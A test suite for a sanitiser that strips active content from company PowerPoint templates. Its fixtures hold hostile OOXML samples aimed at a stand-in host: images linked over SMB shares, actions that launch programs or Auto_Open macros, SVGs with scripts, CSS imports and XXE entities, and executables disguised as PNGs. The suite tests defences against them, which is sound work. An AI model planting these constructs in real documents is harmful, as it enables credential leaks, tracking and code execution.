import { describe, expect, it } from 'vitest';
import { readZip } from '../../../../src/core/base/ooxml/zip.ts';
import { importCompanyTemplate, readCompanyTemplate } from '../../../../src/core/template/company/index.ts';
import { readPack } from '../../../../src/core/template/index.ts';
import { writePptx } from '../../../../src/core/write/pptx/index.ts';
import { lint } from '../../../../src/core/write/pptx/lint/index.ts';
import { sampleIn, ingest } from '../../../support/corporate/build.ts';
import {
  acting,
  alternate,
  EVIL,
  frame,
  LAYOUT,
  linkedPicture,
  MASTER,
  microsoft,
  nextId,
  oleFrame,
  relation,
  tampered,
  type Tampering,
} from '../../../support/corporate/live.ts';
import { png } from '../../../support/corporate/png.ts';
import { powerPointTemplate } from '../../../support/corporate/powerpoint.ts';
import { rectangle, scheme } from '../../../support/corporate/xml.ts';
import { opened } from '../../../support/package.ts';
import { builtInPack } from '../../../support/pack.ts';
import { validate } from '../../../support/validator.ts';

const SOUND = powerPointTemplate({ names: { title: 'Titelfolie', obj: 'Titel und Inhalt', titleOnly: 'Nur Titel' }, vectors: true });
const EMBLEM = { 'ppt/media/emblem.png': png(8, 8, [10, 20, 30]) };
const IMAGE = relation('image', '../media/emblem.png');

interface Case extends Tampering {
  /** In the message. */
  readonly what: string;
  /** As a person sees it. */
  readonly where: string;
  readonly received?: string | RegExp;
  /** What of the part must be there afterwards, and must not. */
  readonly stays?: RegExp;
  readonly gone?: RegExp;
}

const evil = (scheme = 'http'): string => `${scheme}://${EVIL}/t.png`;

const PICTURES: Readonly<Record<string, Case>> = Object.fromEntries(
  (
    [
      ['http', evil()],
      ['https', evil('https')],
      ['a share', `\\\\${EVIL}\\share\\t.png`],
      ['a file on a share', `file:///\\\\${EVIL}\\share\\t.png`],
      ['smb', `smb://${EVIL}/share/t.png`],
      ['letters spelt otherwise', `&#x68;ttp://${EVIL}/%74.png`],
      ['capital letters', `HTTP://${EVIL.toUpperCase()}/T.PNG`],
    ] as const
  ).map(([name, target]): [string, Case] => [
    `a picture linked by ${name}`,
    {
      what: 'a linked picture',
      where: 'layout “Titelfolie”, picture “شعار”',
      received: /evil/i,
      shapes: linkedPicture('شعار', 'r:link="rIdX"'),
      relations: { rIdX: relation('image', target, true) },
      gone: /شعار/,
    },
  ]),
);

const ACTIONS: Readonly<Record<string, Case>> = Object.fromEntries(
  (
    [
      ['an action that starts a program', 'r:id="rIdX" action="ppaction://program"', `file:///C:/${EVIL}.exe`],
      ['an action that runs a macro', 'r:id="" action="ppaction://macro?name=Auto_Open"', null],
      ['an action that opens a file', 'r:id="rIdX" action="ppaction://hlinkfile"', `${EVIL}.docm`],
      ['an action that opens a file', 'r:id="rIdX" action="ppaction://hlinkpres?slideindex=1&amp;slidetitle="', `file://${EVIL}/x.pptm`],
      ['an action on an embedded object', 'r:id="" action="ppaction://ole?verb=0"', null],
      ['an action on an embedded object', 'r:id="" action="ppaction://media"', null],
      ['an action that is not of those between slides', 'r:id="" action="ppaction://customshow?id=0"', null],
      ['an action that starts a program', 'r:id="rIdX" action="PPAction://Program"', `file:///${EVIL}`],
      ['an action that starts a program', 'r:id="rIdX" action="ppaction:&#47;/program"', `file:///${EVIL}`],
      ['a link that leads out of the file', 'r:id="rIdX"', `mailto:press@${EVIL}`],
      ['a link that leads out of the file', 'r:id="" invalidUrl="http://evil.example:x"', null],
    ] as const
  ).flatMap(([what, attributes, target], i): [string, Case][] =>
    ['hlinkClick', 'hlinkHover'].map((element) => [
      `${element} ${i + 1}: ${what}`,
      {
        what,
        where: 'layout “Titelfolie”, shape “Knopf”',
        shapes: acting('Knopf', `<a:${element} ${attributes}/>`),
        relations: target === null ? {} : { rIdX: relation('hyperlink', target, true) },
        stays: /name="Knopf"/,
        gone: /hlinkClick|hlinkHover/,
      },
    ]),
  ),
);

const OBJECTS: Readonly<Record<string, Case>> = {
  'an embedded object with a picture of it': {
    what: 'an embedded object',
    where: 'layout “Titelfolie”, object “Tabelle”',
    shapes: oleFrame('Tabelle', 'rIdX', 'rIdP'),
    relations: {
      rIdX: relation('oleObject', '../embeddings/oleObject1.bin'),
      rIdP: IMAGE,
      rIdV: relation('vmlDrawing', '../drawings/v.vml'),
    },
    parts: { ...EMBLEM, 'ppt/embeddings/oleObject1.bin': EVIL, 'ppt/drawings/v.vml': '<xml/>' },
    stays: /<p:pic>[^]*name="Tabelle" descr="Wappen"[^]*r:embed="rIdP"[^]*<a:off x="8890000"/,
    gone: /oleObj|AlternateContent|graphicFrame/,
  },
  'an embedded workbook without a picture': {
    what: 'an embedded object',
    where: 'layout “Titelfolie”, object “Bestand”',
    shapes: oleFrame('Bestand', 'rIdX', null),
    relations: { rIdX: relation('package', '../embeddings/b.xlsx') },
    parts: { 'ppt/embeddings/b.xlsx': EVIL },
    gone: /Bestand|graphicFrame/,
  },
  'a linked object': {
    what: 'a linked object',
    where: 'layout “Titelfolie”, object “Lage”',
    received: `file:///\\\\${EVIL}\\lage.xlsx`,
    shapes: oleFrame('Lage', 'rIdX', 'rIdP', '<p:link updateAutomatic="1"/>'),
    relations: { rIdX: relation('oleObject', `file:///\\\\${EVIL}\\lage.xlsx`), rIdP: IMAGE },
    parts: EMBLEM,
    stays: /<p:pic>[^]*name="Lage"/,
    gone: /oleObj/,
  },
  'an ActiveX control': {
    what: 'an ActiveX control',
    where: 'layout “Titelfolie”, control “Knopf1”',
    edit: (xml) =>
      xml.replace('</p:spTree>', '</p:spTree><p:controls><p:control name="Knopf1" r:id="rIdX" imgW="10" imgH="10"/></p:controls>'),
    relations: { rIdX: relation('control', '../activeX/activeX1.xml') },
    parts: { 'ppt/activeX/activeX1.xml': `<ocx>${EVIL}</ocx>` },
    gone: /control/,
  },
  ink: {
    what: '',
    where: '',
    shapes: alternate('<p:contentPart r:id="rIdX"/>', linkedPicture('Tinte', 'r:embed="rIdP"')),
    relations: { rIdX: relation('customXml', '../ink/ink1.xml'), rIdP: IMAGE },
    parts: { ...EMBLEM, 'ppt/ink/ink1.xml': `<ink>${EVIL}</ink>` },
    stays: /<p:pic>[^]*name="Tinte"/,
    gone: /contentPart|AlternateContent/,
  },
  'a three-dimensional model': {
    what: 'a part of a kind that decks do not take over',
    where: 'layout “Titelfolie”, object “Modell”',
    shapes: alternate(
      frame('Modell', 'http://schemas.microsoft.com/office/drawing/2017/model3d', '<am:model3d xmlns:am="x" r:embed="rIdX"/>'),
      linkedPicture('Modell', 'r:embed="rIdP"'),
    ),
    relations: { rIdX: relation(microsoft('2017/06', 'model3d'), '../media/m.glb', false), rIdP: IMAGE },
    parts: { ...EMBLEM, 'ppt/media/m.glb': EVIL },
    stays: /<p:pic>[^]*name="Modell"/,
    gone: /model3d|AlternateContent/,
  },
};

const MEDIA: Readonly<Record<string, Case>> = {
  'a film that lies in the file': {
    what: 'a film',
    where: 'layout “Titelfolie”, picture “Film”',
    shapes: linkedPicture('Film', 'r:embed="rIdP"').replace(
      '<p:nvPr userDrawn="1"/>',
      '<p:nvPr userDrawn="1"><a:videoFile r:link="rIdX"/><p:extLst><p:ext uri="{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}"><p14:media xmlns:p14="http://schemas.microsoft.com/office/powerpoint/2010/main" r:embed="rIdM"/></p:ext></p:extLst></p:nvPr>',
    ),
    relations: {
      rIdX: relation('video', '../media/f.mp4'),
      rIdM: relation(microsoft('2007', 'media'), '../media/f.mp4', false),
      rIdP: IMAGE,
    },
    parts: { ...EMBLEM, 'ppt/media/f.mp4': EVIL },
    stays: /name="Film"[^]*r:embed="rIdP"/,
    gone: /videoFile|p14:media|extLst/,
  },
  'a film that is fetched': {
    what: 'a linked sound or film',
    where: 'layout “Titelfolie”, picture “Film”',
    received: `https://${EVIL}/embed/x`,
    shapes: linkedPicture('Film', 'r:embed="rIdP"').replace('<p:nvPr userDrawn="1"/>', '<p:nvPr><a:videoFile r:link="rIdX"/></p:nvPr>'),
    relations: { rIdX: relation('video', `https://${EVIL}/embed/x`), rIdP: IMAGE },
    parts: EMBLEM,
    stays: /name="Film"/,
    gone: /videoFile/,
  },
  'a sound on a click': {
    what: 'a sound',
    where: 'layout “Titelfolie”, shape “Glocke”',
    shapes: acting('Glocke', '<a:hlinkClick r:id="" action="ppaction://noaction"><a:snd r:embed="rIdX" name="g.wav"/></a:hlinkClick>'),
    relations: { rIdX: relation('audio', '../media/g.wav') },
    parts: { 'ppt/media/g.wav': EVIL },
    stays: /name="Glocke"[^]*noaction/,
    gone: /a:snd/,
  },
  'a sound as the slide comes': {
    what: 'a sound',
    where: 'layout “Titelfolie”',
    edit: (xml) =>
      xml.replace(
        '</p:sldLayout>',
        '<p:transition><p:fade/><p:sndAc><p:stSnd><p:snd r:embed="rIdX" name="g.wav"/></p:stSnd></p:sndAc></p:transition></p:sldLayout>',
      ),
    relations: { rIdX: relation('audio', '../media/g.wav') },
    parts: { 'ppt/media/g.wav': EVIL },
    stays: /<p:transition><p:fade\/><\/p:transition>/,
  },
  'an animation that gives commands': {
    what: 'an animation that gives commands',
    where: 'layout “Titelfolie”',
    edit: (xml) =>
      xml.replace(
        '</p:sldLayout>',
        '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" nodeType="tmRoot"><p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="2" dur="1"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing></p:sldLayout>',
      ),
    gone: /timing/,
  },
};

const SVG = '{96DAC541-7B7A-43D3-8B79-37D633B846F1}';
const svgIn = (id: string, how = 'embed'): string =>
  `<a:extLst><a:ext uri="${SVG}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:${how}="${id}"/></a:ext></a:extLst>`;
const drawing = (inside: string, before = ''): string =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;

const LIES: Readonly<Record<string, Case>> = {
  ...Object.fromEntries(
    (
      [
        ['a page under .png', '<html><script>1</script></html>'],
        ['an SVG under .png', drawing('<script>1</script>')],
        ['a metafile under .png', Uint8Array.from([1, 0, 0, 0, ...new Array<number>(36).fill(0), 0x20, 0x45, 0x4d, 0x46, 0])],
        ['a program under .png', Uint8Array.from([0x4d, 0x5a, 0x90, 0])],
        ['nothing under .png', new Uint8Array()],
      ] as const
    ).map(([name, content]): [string, Case] => [
      name,
      {
        what: 'a file that is not the picture it is called',
        where: 'layout “Titelfolie”, picture “Marke”',
        shapes: linkedPicture('Marke', 'r:embed="rIdX"'),
        relations: { rIdX: relation('image', '../media/lie.png') },
        parts: { 'ppt/media/lie.png': content },
        gone: /Marke/,
      },
    ]),
  ),
  ...Object.fromEntries(
    [
      ['a script', drawing('<script>1</script>')],
      ['an event', drawing('<rect onload="x()"/>')],
      ['a picture by address', drawing(`<image xlink:href="${evil()}"/>`)],
      ['a style sheet by address', drawing(`<style>@import url(${evil()});</style>`)],
      ['a fill by address', drawing(`<rect fill="url('${evil()}#a')"/>`)],
      ['letters of CSS spelt otherwise', drawing(`<rect style="fill:u\\72l(${evil()})"/>`)],
      ['an entity', drawing('&x;', `<!DOCTYPE svg [<!ENTITY x SYSTEM "${evil('file')}">]>`)],
      ['a page inside', drawing('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>')],
      ['a processing instruction', drawing('<rect/>', `<?xml-stylesheet href="${evil()}"?>`)],
    ].map(([name = '', content = '']): [string, Case] => [
      `an SVG with ${name}`,
      {
        what: 'an SVG drawing with a script or an address in it',
        where: 'layout “Titelfolie”, picture “Marke”',
        shapes: linkedPicture('Marke', 'r:embed="rIdP"', svgIn('rIdX')),
        relations: { rIdX: relation('image', '../media/m.svg'), rIdP: IMAGE },
        parts: { ...EMBLEM, 'ppt/media/m.svg': content },
        stays: /name="Marke"[^]*r:embed="rIdP"/,
        gone: /svgBlip|extLst/,
      },
    ]),
  ),
  'an SVG by address': {
    what: 'a linked picture',
    where: 'layout “Titelfolie”, picture “Marke”',
    shapes: linkedPicture('Marke', 'r:embed="rIdP"', svgIn('rIdX', 'link')),
    relations: { rIdX: relation('image', `${evil()}.svg`), rIdP: IMAGE },
    parts: EMBLEM,
    stays: /name="Marke"[^]*r:embed="rIdP"/,
    gone: /svgBlip/,
  },
  'a picture both linked and in the file': {
    what: 'a linked picture',
    where: 'layout “Titelfolie”, picture “Marke”',
    shapes: linkedPicture('Marke', 'r:embed="rIdP" r:link="rIdX"'),
    relations: { rIdX: relation('image', evil()), rIdP: IMAGE },
    parts: EMBLEM,
    stays: /name="Marke"[^]*<a:blip r:embed="rIdP"\/?>/,
    gone: /r:link/,
  },
  'a picture by another prefix': {
    what: 'a linked picture',
    where: 'layout “Titelfolie”, picture “Marke”',
    shapes: linkedPicture('Marke', 'q:link="rIdX" xmlns:q="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'),
    relations: { rIdX: relation('image', evil()) },
    gone: /Marke/,
  },
  'a layout that is none': {
    what: 'a part that is not what it is called',
    where: 'master “Behörde”',
    into: MASTER,
    relations: { rIdX: relation('slideLayout', '../slideLayouts/no.xml') },
    edit: (xml) => xml.replace('</p:sldLayoutIdLst>', '<p:sldLayoutId id="2147483900" r:id="rIdX"/></p:sldLayoutIdLst>'),
    parts: { 'ppt/slideLayouts/no.xml': '<html/>' },
    gone: /2147483900/,
  },
};

const PLACES: Readonly<Record<string, Case>> = {
  'a background by address': {
    what: 'a linked picture',
    where: 'master “Behörde”, background',
    into: MASTER,
    edit: (xml) =>
      xml.replace(
        /<p:bg>.*?<\/p:bg>/,
        '<p:bg><p:bgPr><a:blipFill><a:blip r:link="rIdX"/><a:stretch/></a:blipFill><a:effectLst/></p:bgPr></p:bg>',
      ),
    relations: { rIdX: relation('image', evil()) },
    stays: /<p:bgPr><a:solidFill><a:schemeClr val="bg1"\/><\/a:solidFill><a:effectLst\/>/,
  },
  'a shape filled by address': {
    what: 'a linked picture',
    where: 'layout “Titelfolie”, shape “Feld”',
    shapes: rectangle(
      nextId(),
      'Feld',
      { x: 1, y: 1, width: 9, height: 9 },
      '<a:blipFill><a:blip r:link="rIdX"/><a:stretch/></a:blipFill>',
    ),
    relations: { rIdX: relation('image', evil()) },
    stays: /name="Feld"[^]*<a:noFill\/>/,
  },
  'a theme’s fill by address': {
    what: 'a linked picture',
    where: 'master “Behörde”',
    into: 'ppt/theme/theme1.xml',
    edit: (xml) =>
      xml.replace(
        /<a:bgFillStyleLst><a:solidFill>.*?<\/a:solidFill>/,
        '<a:bgFillStyleLst><a:blipFill xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><a:blip r:link="rIdX"/><a:stretch/></a:blipFill>',
      ),
    relations: { rIdX: relation('image', evil()) },
    stays: /<a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"\/>/,
  },
  'a bullet by address': {
    what: 'a linked picture',
    where: 'master “Behörde”',
    into: MASTER,
    edit: (xml) => xml.replace('<a:buChar char="•"/>', '<a:buBlip><a:blip r:link="rIdX"/></a:buBlip>'),
    relations: { rIdX: relation('image', evil()) },
    gone: /buBlip/,
  },
  'where it would be published to': {
    what: 'a reference that leads out of the file',
    where: 'presentation’s settings',
    into: 'ppt/presProps.xml',
    edit: (xml) => xml.replace(/\/>\s*$/, '><p:htmlPubPr r:id="rIdX"><p:sldAll/></p:htmlPubPr></p:presentationPr>'),
    relations: { rIdX: relation('htmlPubSaveAs', `file:///${EVIL}`) },
    gone: /htmlPubPr/,
  },
  'a template that it is attached to': {
    what: 'a reference that leads out of the file',
    where: 'presentation',
    into: 'ppt/presentation.xml',
    relations: { rIdX: relation('attachedTemplate', `https://${EVIL}/x.potm`) },
  },
  'a theme by address': {
    what: 'a reference that leads out of the file',
    where: 'layout “Titelfolie”',
    relations: { rIdX: relation('themeOverride', `https://${EVIL}/t.xml`) },
  },
  'an address that is said to be inside': {
    what: 'a linked picture',
    where: 'layout “Titelfolie”, picture “Marke”',
    shapes: linkedPicture('Marke', 'r:embed="rIdX"'),
    relations: { rIdX: relation('image', evil(), false) },
    gone: /Marke/,
  },
  'an add-in’s pane': {
    what: 'an add-in’s pane',
    where: '',
    into: '',
    relations: { rIdX: relation(microsoft('2011', 'webextensiontaskpanes'), 'ppt/webextensions/taskpanes.xml', false) },
    parts: { 'ppt/webextensions/taskpanes.xml': `<wetp:taskpanes xmlns:wetp="x">${EVIL}</wetp:taskpanes>` },
  },
  'a workbook elsewhere': {
    what: 'a part of a kind that decks do not take over',
    where: 'master “Behörde”',
    into: MASTER,
    relations: { rIdX: relation('externalLink', '../externalLinks/e.xml') },
    parts: { 'ppt/externalLinks/e.xml': `<x>${EVIL}</x>` },
  },
  'a chart with its workbook': {
    what: 'a file embedded in a chart',
    where: 'layout “Titelfolie”, chart',
    shapes: frame(
      'Verlauf',
      'http://schemas.openxmlformats.org/drawingml/2006/chart',
      '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rIdC"/>',
    ),
    relations: { rIdC: relation('chart', '../charts/c.xml') },
    parts: {
      'ppt/charts/c.xml':
        '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:pieChart><c:varyColors val="0"/></c:pieChart></c:plotArea></c:chart><c:externalData r:id="rId1"/></c:chartSpace>',
      'ppt/charts/_rels/c.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${relation('package', '../embeddings/w.xlsx')}/></Relationships>`,
      'ppt/embeddings/w.xlsx': EVIL,
    },
    stays: /c:chart/,
  },
};

const ALL: Readonly<Record<string, Case>> = { ...PICTURES, ...ACTIONS, ...OBJECTS, ...MEDIA, ...LIES, ...PLACES };
const decoder = new TextDecoder();

/** Every part as text, with the names of all. */
function everything(bytes: Uint8Array): string {
  return [...readZip(bytes)].map(([name, content]) => `${name}\n${decoder.decode(content)}`).join('\n');
}

function imported(bytes: Uint8Array): { readonly base: Uint8Array; readonly problems: readonly { code: string }[] } {
  const made = importCompanyTemplate({ title: 'X', file: 'x.potx', bytes, slides: builtInPack() });
  const base = made.value?.files.get('assets/company.potx');
  if (!base) throw new Error(JSON.stringify(made.problems));
  return { base, problems: made.problems };
}

describe('what is alive in an organisation’s file', () => {
  it('is not seen where there is none, and the file stays byte for byte', () => {
    expect(imported(SOUND)).toEqual({ base: SOUND, problems: [] });
  });

  it.each(Object.entries(ALL))('%s is taken out and named', (_, { what, where, received, stays, gone, ...tampering }) => {
    const bytes = tampered(SOUND, tampering);
    const { base, problems } = imported(bytes);
    const part = tampering.into ?? LAYOUT;
    const told = problems.filter((p) => p.code === 'company/live-left-out');
    if (what === '') expect(problems.map((p) => p.code)).toEqual(['company/data-left-out']);
    else {
      expect(told).toContainEqual(
        expect.objectContaining({ severity: 'warning', message: `${what} was taken out`, hint: expect.stringMatching(/\w/) as string }),
      );
      const fields = told.map((p) => (p as { place?: { field?: string } }).place?.field ?? '');
      expect(fields.some((field) => field === where || field.startsWith(`${where} (`) || field.startsWith(`${where}, `))).toBe(true);
    }
    if (received !== undefined) expect(told.map((p) => (p as { received?: string }).received).join('\n')).toMatch(received);
    const left = decoder.decode(readZip(base).get(part === '' ? '_rels/.rels' : part));
    if (stays) expect(left).toMatch(stays);
    if (gone) expect(left).not.toMatch(gone);
    expect(everything(base).match(/.{0,60}(?:evil|rIdX|rIdM).{0,60}/gi)).toBeNull();
    // Taking out leaves nothing dangling, and what is kept stays what it was.
    expect(lint(opened(base))).toEqual(lint(opened(SOUND)));
    expect(readCompanyTemplate(base, { name: 'x.potx' }).problems).toEqual([]);
  });

  it.each(Object.entries(ALL).filter(([, { what }]) => what !== ''))('%s is refused in a pack that was not taken in', (_, tampering) => {
    const { files } = importCompanyTemplate({ title: 'X', file: 'x.potx', bytes: SOUND, slides: builtInPack() }).value ?? {
      files: new Map(),
    };
    const { value, problems } = readPack(new Map([...files, ['assets/company.potx', tampered(SOUND, tampering)]]), 'templates/x');
    expect(value).toBeNull();
    expect(problems).toContainEqual(
      expect.objectContaining({
        code: 'company/live-content',
        severity: 'error',
        message: `${tampering.what} is in the organisation’s file`,
        place: expect.objectContaining({ file: 'templates/x/assets/company.potx' }) as object,
        hint: expect.stringMatching(/template import/) as string,
      }),
    );
  });

  it('leaves a file that is valid, all of it at once, and decks in which nothing is left', async () => {
    const renamed = Object.values(ALL)
      .filter(({ into, what }) => into !== 'ppt/theme/theme1.xml' && what !== '')
      .map(({ into, shapes, relations = {}, parts = {}, edit }, i): Tampering => {
        // Ids are unique in a part, and so are names in a package.
        const own = (text: string): string => text.replace(/rId([XPMVC])\b/g, (id) => `${id}${i}`);
        const name = (text: string): string =>
          text.replaceAll(/(media|embeddings|activeX|charts)\/(?=\w+\.)/g, (folder) => `${folder}n${i}-`);
        return {
          ...(into === undefined ? {} : { into }),
          ...(shapes === undefined ? {} : { shapes: own(shapes) }),
          relations: Object.fromEntries(Object.entries(relations).map(([id, to]) => [own(id), name(to)])),
          parts: Object.fromEntries(
            Object.entries(parts).map(([at, content]) => [name(at), typeof content === 'string' ? name(content) : content]),
          ),
          ...(edit === undefined || /timing|transition/.test(edit('</p:sldLayout>')) ? {} : { edit: (xml: string) => own(edit(own(xml))) }),
        };
      });
    const bytes = tampered(SOUND, ...renamed);
    expect(everything(bytes).match(/evil\.example/gi)?.length).toBeGreaterThan(20);
    const { pack } = ingest(bytes);
    const base = pack.assets.get('assets/company.potx') ?? new Uint8Array();
    expect(everything(base).match(/.{0,60}evil.{0,60}/gi)).toBeNull();
    const scene = await sampleIn(pack, 'river-port.briefing.yaml');
    const { value: deck } = await writePptx(scene);
    expect(everything(deck).match(/.{0,60}(?:evil\.example|oleObj|ppaction:\/\/(?!hlinksldjump|noaction)).{0,60}/gi)).toBeNull();
    expect(await validate(deck)).toEqual([]);
    const swapped = { ...scene, theme: { ...scene.theme, base: { file: 'assets/company.potx', bytes } } };
    await expect(writePptx(swapped)).rejects.toThrow(/company\/live-content/);
  });
});

describe('what is harmless in an organisation’s file', () => {
  it('stays: jumps between slides, art in the file, a model of colours, diagrams', () => {
    const shapes =
      acting('Weiter', '<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>') +
      acting('Anfang', '<a:hlinkClick r:id="rIdS" action="ppaction://hlinksldjump"/>') +
      linkedPicture('Marke', 'r:embed="rIdP"', svgIn('rIdG'));
    const bytes = tampered(SOUND, {
      shapes,
      relations: { rIdS: relation('slide', '../slides/slide1.xml'), rIdP: IMAGE, rIdG: relation('image', '../media/image2.svg') },
      parts: EMBLEM,
    });
    const { base, problems } = imported(bytes);
    expect(problems).toEqual([]);
    expect(base).toEqual(bytes);
  });

  it('stays under names in other letters and spellings, which other programs read otherwise', () => {
    const bytes = tampered(SOUND, {
      shapes: linkedPicture('Marke', 'r:embed="rIdP"') + linkedPicture('Zweite', 'r:embed="rIdQ"'),
      relations: { rIdP: relation('image', '../MEDIA/Emblem.PNG'), rIdQ: relation('image', '/ppt/slides/../media/embl%65m.png') },
      parts: EMBLEM,
    });
    const { base, problems } = imported(bytes);
    expect(problems).toEqual([]);
    expect(
      decoder.decode(readZip(base).get('ppt/slideLayouts/_rels/slideLayout1.xml.rels')).match(/\.\.\/media\/emblem\.png/g),
    ).toHaveLength(2);
  });

  it('keeps its look: words that were a link have the colour and the line of one', () => {
    const words = rectangle(nextId(), 'Haus', { x: 1, y: 1, width: 9, height: 9 }, scheme('bg1'), 'www.haus').replace(
      '<a:rPr lang="de-DE"/>',
      '<a:rPr lang="de-DE"><a:latin typeface="Arial"/><a:hlinkClick r:id="rIdX"/></a:rPr>',
    );
    const { base } = imported(tampered(SOUND, { shapes: words, relations: { rIdX: relation('hyperlink', evil()) } }));
    expect(decoder.decode(readZip(base).get(LAYOUT))).toContain(
      '<a:rPr lang="de-DE" u="sng"><a:solidFill><a:schemeClr val="hlink"/></a:solidFill><a:latin typeface="Arial"/></a:rPr>',
    );
  });

  it('is left out where it is no design, and said once; no pack is refused for it', () => {
    const bytes = tampered(SOUND, {
      into: 'ppt/presentation.xml',
      relations: {
        rIdT: relation('tags', 'tags/tag1.xml'),
        rIdC: relation('customXml', '../customXml/item1.xml'),
        rIdD: relation('printerSettings', 'printerSettings/p.bin'),
      },
      parts: { 'ppt/tags/tag1.xml': '<p:tagLst/>', 'customXml/item1.xml': '<x/>', 'ppt/printerSettings/p.bin': 'x' },
      edit: (xml) => xml.replace('<p:defaultTextStyle>', '<p:custDataLst><p:tags r:id="rIdT"/></p:custDataLst><p:defaultTextStyle>'),
    });
    const { base, problems } = imported(bytes);
    expect(problems).toMatchObject([
      { code: 'company/data-left-out', received: 'data of add-ins and other programs, printer settings', place: { file: 'x.potx' } },
    ]);
    expect(everything(base)).not.toMatch(/custDataLst|tag1|item1|printer/);
    const { files } = importCompanyTemplate({ title: 'X', file: 'x.potx', bytes: SOUND, slides: builtInPack() }).value ?? {
      files: new Map(),
    };
    expect(readPack(new Map([...files, ['assets/company.potx', bytes]]), 'x').problems).toEqual([]);
  });
});

describe('a file that programs would read in two ways', () => {
  const layout = (xml: string): Tampering => ({ parts: { [LAYOUT]: xml } });
  const utf16 = (text: string): Uint8Array => Uint8Array.from([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]);
  const RELS = 'ppt/slideLayouts/_rels/slideLayout1.xml.rels';
  const rels = decoder.decode(readZip(SOUND).get(RELS));

  it.each([
    ['relationships that are not well-formed', { parts: { '_rels/.rels': '<Relationships><Relationship Id="a" Type="b"' } }, '_rels/.rels'],
    ['relationships that do not lead to the presentation', { parts: { '_rels/.rels': '<Relationships/>' } }, '_rels/.rels'],
    ['two relationships of one id', { relations: { rId1: relation('image', evil()) } }, RELS],
    ['a document type', layout(`<!DOCTYPE x SYSTEM "${evil()}"><p:sldLayout xmlns:p="p"/>`), LAYOUT],
    ['another encoding', layout('<?xml version="1.0" encoding="UTF-7"?><p:sldLayout/>'), LAYOUT],
    ['bytes that are no text', { parts: { [LAYOUT]: Uint8Array.from([60, 0x80, 62]) } }, LAYOUT],
  ] as const)('is refused with the part’s name: %s', (_, tampering: Tampering, part) => {
    const { value, problems } = readCompanyTemplate(tampered(SOUND, tampering), { name: 'x.potx' });
    expect(value).toBeNull();
    expect(problems).toMatchObject([{ code: 'company/broken', place: { file: 'x.potx' }, received: part }]);
  });

  it('is read as Office reads it: relationships in UTF-16, under a prefix, in a comment', () => {
    const link = `<Relationship Id="rIdX" ${relation('image', evil())}/>`;
    const within = (xml: string): string => rels.replace('</Relationships>', () => `${xml}</Relationships>`);
    const prefixed = rels
      .replace('xmlns=', 'xmlns:r-1=')
      .replace(/<(\/?)Relationship/g, '<$1r-1:Relationship')
      .replace('</r-1:Relationships>', () => `${link.replace('<R', '<r-1:R')}</r-1:Relationships>`);
    for (const content of [utf16(within(link).replace('UTF-8', 'UTF-16')), prefixed]) {
      const { base, problems } = imported(tampered(SOUND, { parts: { [RELS]: content } }));
      expect(problems).toMatchObject([{ code: 'company/live-left-out', received: evil() }]);
      expect(everything(base)).not.toContain(EVIL);
    }
    expect(imported(tampered(SOUND, { parts: { [RELS]: within(`<!-- ${link} -->`) } })).problems).toEqual([]);
  });

  it('keeps a layout in UTF-16', () => {
    const text = decoder.decode(readZip(SOUND).get(LAYOUT)).replace('UTF-8', 'UTF-16');
    const { base, problems } = imported(tampered(SOUND, { parts: { [LAYOUT]: utf16(text) } }));
    expect(problems).toEqual([]);
    expect(decoder.decode(readZip(base).get(LAYOUT))).toMatch(/encoding="UTF-8"[^]*Titelfolie/);
  });
});
